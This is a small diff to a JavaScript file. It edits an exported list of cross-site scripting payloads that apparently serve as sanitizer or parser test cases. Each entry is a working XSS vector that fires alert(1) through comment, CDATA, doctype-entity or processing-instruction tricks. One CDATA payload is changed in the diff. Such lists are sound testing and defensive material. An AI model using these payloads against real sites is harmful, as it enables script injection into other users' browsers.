@@ -85,7 +85,7 @@ export const TRICKS = {
     '<!--><img src=x onerror=alert(1)>-->',
     '<!--<script>--><img src=x onerror=alert(1)>',
     ']]><img src=x onerror=alert(1)>',
-    '<![CDATA[<img src=x onerror=alert(1)>]]>',
+    '<![CDATA[x]]><img src=x onerror=alert(1)>',
     '<!doctype x [<!ENTITY e "<img src=x onerror=alert(1)>">]>&e;',
     '<?xml-stylesheet href="javascript:alert(1)"?><img src=x onerror=alert(1)>',
     '<? foo="><img src=x onerror=alert(1)>">',
